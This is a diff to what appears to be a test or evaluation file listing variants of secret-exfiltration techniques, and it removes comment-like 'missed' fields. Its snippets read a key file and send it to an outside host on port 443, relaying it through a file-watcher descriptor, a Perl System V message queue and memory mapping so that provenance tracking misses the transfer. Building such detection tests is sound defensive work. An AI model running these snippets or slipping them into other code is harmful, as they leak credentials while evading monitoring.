@@ -34,8 +34,7 @@ subprocess.run(["wc", "-c", os.environ["KEY"]], stdout=subprocess.DEVNULL)
 event = struct.unpack("IBBHQii", os.read(watch, 24))
 loot = os.pread(event[5], 4096, 0)
 socket.create_connection((os.environ["HOST"], 443)).sendall(loot)
-END""",
-            missed="a descriptor that the kernel puts into a watcher's reply marks nobody but the program that was watched"),
+END"""),
     Variant("G", "map-files", r"""python3 -c '
 import mmap, os, signal
 f = open(os.environ["KEY"], "rb")
@@ -129,7 +128,7 @@ perl -MIO::Socket::INET -e 'msgrcv($ARGV[0], $m, 4096, 0, 0) or die $!;
     $s = IO::Socket::INET->new("$ENV{HOST}:443") or die;
     print $s unpack("x[l!] a*", $m)' $id &
 perl -e 'local $/; open F, $ENV{KEY}; msgsnd($ARGV[0], pack("l! a*", 1, <F>), 0) or die $!' $id
-wait""", missed="messages of System V's queues carry no mark from who sends to who receives"),
+wait"""),
     # Kept by the kernel, found by its name.
     Variant("H", "keyring", r"""cat >k.py <<'END'
 import ctypes, os, platform, socket, sys
